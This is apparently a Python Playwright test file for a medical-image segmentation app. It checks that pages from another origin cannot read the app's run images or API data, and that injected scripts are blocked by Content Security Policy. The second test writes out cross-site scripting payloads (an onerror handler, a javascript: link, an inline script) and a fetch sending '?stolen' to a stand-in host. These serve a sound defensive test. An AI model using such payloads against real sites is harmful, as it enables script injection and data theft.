"""Attacks by a page of another site in the same browser: it reads nothing, and a script that gets into a page never runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from seg_core.config import Config
from seg_core.runs.store import RunStore
from tests.app_process import AppProcess
from tests.helpers import wait_in_page

pytestmark = pytest.mark.browser

TRIES = """async (urls) => {
  const tried = (tag, url) => new Promise((tell) => {
    const part = document.createElement(tag);
    part.onload = () => tell("loaded");
    part.onerror = () => tell("refused");
    part.src = url;
    document.body.append(part);
  });
  const read = (url, mode) => fetch(url, { mode, credentials: "include" })
    .then((answer) => `${answer.type} ${answer.status}`, () => "refused");
  const found = {};
  for (const url of urls) {
    const ways = [tried("img", url), tried("script", url), read(url, "cors"), read(url, "no-cors")];
    found[url] = await Promise.all(ways);
  }
  return found;
}"""


class Quiet(SimpleHTTPRequestHandler):
    """Serves a folder and prints nothing."""

    def log_message(self, *_: object) -> None: ...


@pytest.fixture
def other_site(tmp_path: Path) -> Iterator[str]:
    """A page of another program on this machine: same host, another port."""
    folder = tmp_path / "site"
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>elsewhere</title><body></body>")
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/index.html"
    server.shutdown()
    server.server_close()


def test_another_site_reads_no_picture_of_a_run(app_server: AppProcess, page: Page, problems: list[str], other_site: str) -> None:
    store = RunStore(app_server.home / "lesionlab.db")
    run = store.queue.add("private", Config.of("report"), "sample")
    store.queue.stop(run.id)
    masks = store.folder(run.id) / "masks"
    masks.mkdir(parents=True)
    Image.new("RGB", (8, 8), "red").save(masks / "photo-1.jpg")
    store.close()
    wanted = [f"/api/runs/{run.id}/masks/photo-1.jpg", "/api/runs", "/predictor/config", "/assets/mark.svg"]

    page.goto(app_server.url)
    at_home = page.evaluate("(urls) => Promise.all(urls.map(async (url) => (await fetch(url)).status))", wanted)
    assert at_home == [200] * 4
    page.goto(other_site)
    for base in (app_server.url, app_server.url.replace("localhost", "127.0.0.1")):  # another site, and another port of this one
        found = page.evaluate(TRIES, [base + path for path in wanted])
        lost = {url: ways for url, ways in found.items() if set(ways) != {"refused"}}
        assert not lost, json.dumps(lost)
    problems[:] = [problem for problem in problems if app_server.url.rsplit(":", 1)[1] not in problem]


def test_a_script_in_a_name_never_runs(app_server: AppProcess, page: Page, problems: list[str]) -> None:
    """What gets past the pages' own escaping is put into a page by hand, as if one of them had a hole."""
    page.goto(f"{app_server.url}/monitor")
    expect(page.get_by_role("heading", name="Monitor", exact=True)).to_be_visible()
    page.evaluate("""() => {
      const hole = document.createElement("div");
      document.body.append(hole);
      hole.innerHTML = `<img src="/nothing.png" onerror="window.robbed = 1">
        <a id="bad" href="javascript:window.robbed = 2">x</a>`;
      const script = document.createElement("script");
      script.textContent = "window.robbed = 3";
      hole.append(script);
      document.getElementById("bad").click();
      fetch("http://192.0.2.1/?stolen").catch(() => { window.kept = true; });
    }""")
    wait_in_page(page, "window.kept")
    wait_in_page(page, "document.querySelector('img[src=\"/nothing.png\"]').complete")
    assert page.evaluate("window.robbed") is None
    refused = [problem for problem in problems if "Content Security Policy" in problem]
    assert len(refused) >= 4, problems
    problems.clear()
